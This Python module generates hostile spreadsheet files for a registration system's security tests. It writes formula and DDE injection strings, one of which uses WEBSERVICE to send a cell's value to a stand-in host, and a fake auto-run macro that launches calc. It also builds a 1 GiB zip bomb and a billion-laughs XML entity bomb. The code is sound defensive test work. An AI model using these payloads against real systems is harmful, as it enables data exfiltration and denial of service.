"""Generators of hostile submissions for tests/test_hostile.py: each writes one file (or folder) at the path it is
given, built from a real template or a real filled submission where that makes the attack realistic. Nothing here
holds a bomb's inflated size in memory."""

from __future__ import annotations

import io
import random
import shutil
import struct
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import openpyxl
import xlsxwriter

from thidua.forms import template_fields
from thidua.workspace.default_plan import PLAN

INJECTIONS = (
    '=HYPERLINK("http://x","y")',
    "+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "-2+3",
    "=1+1",
    '=WEBSERVICE("http://x/?"&A1)',
)
CONTROL_TEXT = "Nguyễn\x01Văn\x07Bell"
LONG_TEXT_LENGTH = 32_000
HUGE_ROWS = 300_000
BOMB_BYTES = 1 << 30  # declared (and really) inflated size of the zip bomb's member
_MIB = 1 << 20


def registration_labels() -> list[str]:
    return [f.label for f in template_fields.registration_fields(PLAN)]


def rewrite_zip(
    source: bytes, change: Callable[[str, bytes], bytes | None], extra: Sequence[tuple[str, bytes]] = ()
) -> bytes:
    """A copy of a zip archive with each member passed through `change` (None drops it) and `extra` added."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            data = change(info.filename, src.read(info))
            if data is not None:
                dst.writestr(info.filename, data)
        for name, data in extra:
            dst.writestr(name, data)
    return out.getvalue()


# --- wrong bytes -------------------------------------------------------------------------------------------------


def empty(path: Path) -> None:
    path.write_bytes(b"")


def random_bytes(path: Path, seed: int = 1) -> None:
    path.write_bytes(random.Random(seed).randbytes(64 * 1024))


def truncated(path: Path, good: Path) -> None:
    data = good.read_bytes()
    path.write_bytes(data[: len(data) // 2])


def csv_renamed(path: Path) -> None:
    path.write_text(
        "STT,Họ và tên,Danh hiệu đăng ký\n1,Đinh Thị Mai,Lao động tiên tiến\n2,Trần Văn Quý,Lao động tiên tiến\n",
        encoding="utf-8",
    )


def html_renamed(path: Path) -> None:
    path.write_text(
        "<html><head><meta charset='utf-8'></head><body><table><tr><td>Họ và tên</td><td>Danh hiệu đăng ký</td></tr>"
        "<tr><td>Đinh Thị Mai</td><td>Lao động tiên tiến</td></tr></table></body></html>",
        encoding="utf-8",
    )


def password_protected(path: Path) -> None:
    """What Excel writes for a workbook with a password to open: an OLE compound file (CFB v3) whose directory
    holds the streams EncryptionInfo and EncryptedPackage. The streams hold filler, not real ciphertext."""
    sector = 512
    free, end, fat_sect = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD
    stream_sectors = 4096 // sector  # at the mini-stream cutoff, so both streams live in regular sectors
    info_start, package_start = 2, 2 + stream_sectors
    total = package_start + stream_sectors
    fat = [fat_sect, end]
    for start in (info_start, package_start):
        fat += [*range(start + 1, start + stream_sectors), end]
    fat += [free] * (sector // 4 - len(fat))
    header = (
        bytes.fromhex("D0CF11E0A1B11AE1")
        + bytes(16)
        + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
        + bytes(6)
        + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, end, 0, end, 0)
        + struct.pack("<I", 0)
        + struct.pack("<I", free) * 108
    )

    def entry(name: str, kind: int, left: int, right: int, child: int, start: int, size: int) -> bytes:
        raw = (name + "\0").encode("utf-16-le") if name else b""
        return (
            raw.ljust(64, b"\0")
            + struct.pack("<HBB", len(raw), kind, 1)
            + struct.pack("<III", left, right, child)
            + bytes(16 + 4 + 16)
            + struct.pack("<IQ", start, size)
        )

    directory = (
        entry("Root Entry", 5, free, free, 2, end, 0)
        + entry("EncryptionInfo", 2, free, free, free, info_start, 4096)
        + entry("EncryptedPackage", 2, 1, free, free, package_start, 4096)
        + entry("", 0, free, free, free, 0, 0)
    )
    filler = random.Random(2).randbytes(4096)
    body = struct.pack(f"<{sector // 4}I", *fat) + directory + struct.pack("<HH", 4, 2) + filler[4:] + filler
    assert len(body) == total * sector
    path.write_bytes(header + body)


def _local_data(data: bytes, member: str) -> tuple[int, int]:
    """Offset and length of a member's (stored or compressed) bytes, from its local file header."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo(member)
    name_len, extra_len = struct.unpack("<HH", data[info.header_offset + 26 : info.header_offset + 30])
    return info.header_offset + 30 + name_len + extra_len, info.compress_size


def bad_crc(path: Path, good: Path, member: str = "xl/worksheets/sheet1.xml") -> None:
    """A workbook stored without compression (as some tools write it) with one byte of a sheet changed in
    transit: the archive's directory is intact, the member's CRC-32 no longer matches."""
    out = io.BytesIO()
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info))
    data = bytearray(out.getvalue())
    start, length = _local_data(bytes(data), member)
    data[start + length // 2] ^= 0x20
    path.write_bytes(bytes(data))


def corrupt_local_header(path: Path, good: Path, member: str = "xl/worksheets/sheet1.xml") -> None:
    """A workbook whose central directory is intact but one member's local header was overwritten."""
    data = bytearray(good.read_bytes())
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as archive:
        offset = archive.getinfo(member).header_offset
    data[offset : offset + 4] = bytes(4)
    path.write_bytes(bytes(data))


# --- real workbooks with something wrong -------------------------------------------------------------------------


def macro_enabled(path: Path, good: Path) -> None:
    """A filled template turned into an .xlsm: a vbaProject.bin member and the macro-enabled content type."""

    def change(name: str, data: bytes) -> bytes:
        if name == "[Content_Types].xml":
            data = data.replace(
                b"application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
                b"application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            ).replace(
                b"</Types>",
                b'<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/></Types>',
            )
        if name == "xl/_rels/workbook.xml.rels":
            data = data.replace(
                b"</Relationships>",
                b'<Relationship Id="rIdVba" Type="http://schemas.microsoft.com/office/2006/relationships/vbaProject"'
                b' Target="vbaProject.bin"/></Relationships>',
            )
        return data

    vba = bytes.fromhex("D0CF11E0A1B11AE1") + b'Attribute VB_Name = "Module1"\r\nSub Auto_Open()\r\nShell "calc"\r\n'
    path.write_bytes(rewrite_zip(good.read_bytes(), change, [("xl/vbaProject.bin", vba)]))


def not_a_template(path: Path) -> None:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Sheet1"
    for row in (["Mã hàng", "Tên hàng", "Số lượng"], ["A01", "Phấn trắng", 12], ["A02", "Bảng con", 30]):
        ws.append(row)
    wb.save(path)


def missing_required_column(path: Path, good_activity: Path) -> None:
    """A monthly report whose required 'Ngày' column lost its header label."""
    wb = openpyxl.load_workbook(good_activity)
    ws = wb.worksheets[0]
    labels = [f.label for f in template_fields.activity_fields(PLAN)]
    header = next(r for r in range(1, 20) if ws.cell(r, 2).value == labels[1])
    ws.cell(header, labels.index("Ngày") + 1).value = None
    wb.save(path)


def uncalculated_formulas(path: Path, template: Path, names: Sequence[str]) -> None:
    """Formulas a script wrote without computed values, in the name and title columns."""
    wb = openpyxl.load_workbook(template)
    ws = wb.worksheets[0]
    for i, name in enumerate(names):
        row = 6 + i
        ws.cell(row, 1, i + 1)
        ws.cell(row, 2, f'=UPPER("{name}")')
        ws.cell(row, 6, '=IF(1,"Lao động tiên tiến","")')
    wb.save(path)


def merged_cells_over_data(path: Path, good_team: Path) -> None:
    """A team file whose equal title cells of two data rows were merged (the value survives in the first)."""
    wb = openpyxl.load_workbook(good_team)
    ws = wb.worksheets[0]
    title_col = registration_labels().index("Danh hiệu đăng ký") + 1
    row = next(
        r
        for r in range(6, 60)
        if ws.cell(r, title_col).value and ws.cell(r, title_col).value == ws.cell(r + 1, title_col).value
    )
    ws.merge_cells(start_row=row, start_column=title_col, end_row=row + 1, end_column=title_col)
    wb.save(path)


def hidden_sheet(path: Path, good: Path) -> None:
    wb = openpyxl.load_workbook(good)
    data = wb.worksheets[0]
    wb.active = next(i for i, ws in enumerate(wb.worksheets) if ws is not data and ws.sheet_state == "visible")
    data.sheet_view.tabSelected = False
    data.sheet_state = "hidden"
    wb.save(path)


def hidden_rows(path: Path, good_team: Path) -> None:
    wb = openpyxl.load_workbook(good_team)
    wb.worksheets[0].row_dimensions[7].hidden = True
    wb.save(path)


def huge_sheet(path: Path, rows: int = HUGE_ROWS) -> None:
    """A registration-like sheet with `rows` numbered rows, streamed to disk (constant memory)."""
    wb = xlsxwriter.Workbook(str(path), {"constant_memory": True})
    ws = wb.add_worksheet("Đăng ký")
    ws.write_row(0, 0, registration_labels())
    write_number, write_string = ws.write_number, ws.write_string
    for r in range(1, rows + 1):
        write_number(r, 0, r)
        if r % 100 == 0:
            write_string(r, 1, "Nguyễn Văn A")
    wb.close()


def filled_strings(path: Path, template: Path, rows: Sequence[Sequence[object]]) -> None:
    """Rows filled into a template with every string stored as text, even one starting with '=' (as Excel keeps
    text typed after an apostrophe or imported from CSV)."""
    wb = openpyxl.load_workbook(template)
    ws = wb.worksheets[0]
    for r, values in enumerate(rows, start=6):
        for c, value in enumerate(values, start=1):
            if value not in ("", None):
                cell = ws.cell(r, c)
                cell.value = value
                if isinstance(value, str):
                    cell.data_type = "s"
    wb.save(path)


def injection(path: Path, template: Path) -> None:
    """Formula and DDE injection strings typed as text in every text column (names unknown to the roster)."""
    rows = []
    for i, text in enumerate(INJECTIONS, start=1):
        rows.append([i, text, None, "", "", text, text, text, "", text, "", "", "", "", text])
    filled_strings(path, template, rows)


def control_characters(path: Path, template: Path) -> None:
    """Cells with C0 control characters (stored as Excel's _xHHHH_ escapes) and a 32,000-character cell."""
    marker = "CTRLMARK"
    filled_strings(
        path,
        template,
        [
            [1, marker, None, "", "", "Lao động tiên tiến", "", marker, "", "", "", "", "", "", marker],
            [2, "Đ" * LONG_TEXT_LENGTH, None, "", "", "Lao động tiên tiến", "", "x" * LONG_TEXT_LENGTH],
        ],
    )
    escaped = CONTROL_TEXT.replace("\x01", "_x0001_").replace("\x07", "_x0007_").encode()
    path.write_bytes(rewrite_zip(path.read_bytes(), lambda _n, d: d.replace(marker.encode(), escaped)))


def folder_named(folder: Path, good: Path) -> None:
    folder.mkdir()
    shutil.copy2(good, folder / good.name)


def zip_bomb(path: Path, template: Path) -> None:
    """A real xlsx whose first worksheet inflates to 1 GiB of zeros, written in 16 MiB chunks (about 5 MB)."""
    with zipfile.ZipFile(template) as src, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as dst:
        for info in src.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                with dst.open(info.filename, "w", force_zip64=True) as member:
                    chunk = bytes(16 * _MIB)
                    for _ in range(BOMB_BYTES // len(chunk)):
                        member.write(chunk)
            else:
                dst.writestr(info.filename, src.read(info))


def billion_laughs(root: str, levels: int = 9) -> bytes:
    entities = ['<!ENTITY lol0 "lol">'] + [f'<!ENTITY lol{i} "{f"&lol{i - 1};" * 10}">' for i in range(1, levels + 1)]
    return f"<!DOCTYPE {root} [{''.join(entities)}]>".encode()


def xml_entity_bomb(path: Path, good: Path, member: str = "xl/worksheets/sheet1.xml", padding: int = 0) -> None:
    """A filled submission whose first worksheet declares nested entities (billion laughs) and uses the last one.
    `padding` puts an XML comment of that many bytes before the DOCTYPE (still well-formed XML)."""

    def change(name: str, data: bytes) -> bytes:
        if name != member:
            return data
        declaration, rest = data.split(b"?>", 1) if data.startswith(b"<?xml") else (b"<?xml version='1.0'", data)
        comment = b"<!--" + b"x" * padding + b"-->" if padding else b""
        rest = rest.replace(b"<t>", b"<t>&lol9;", 1) if b"<t>" in rest else rest.replace(b"<v>", b"<v>&lol9;", 1)
        return declaration + b"?>" + comment + billion_laughs("sst" if "sharedStrings" in name else "worksheet") + rest

    path.write_bytes(rewrite_zip(good.read_bytes(), change))


def broken_symlink(path: Path) -> None:
    """A submission that is gone by the time it is read: a link to a file that no longer exists."""
    path.symlink_to(path.parent / "da-xoa" / "tep-da-bi-xoa.xlsx")


def far_corner(path: Path, good: Path, corner: str = "XFD1048576", member: str = "xl/worksheets/sheet1.xml") -> None:
    """A good file with one more cell at the sheet's far corner while <dimension> still names the small range:
    a parser that trusts the cells allocates rows × columns up to that corner."""

    def change(name: str, data: bytes) -> bytes:
        if name != member:
            return data
        row = corner.lstrip("ABCDEFGHIJKLMNOPQRSTUVWXYZ")
        cell = f'<row r="{row}"><c r="{corner}"><v>1</v></c></row>'.encode()
        return data.replace(b"</sheetData>", cell + b"</sheetData>", 1)

    path.write_bytes(rewrite_zip(good.read_bytes(), change))
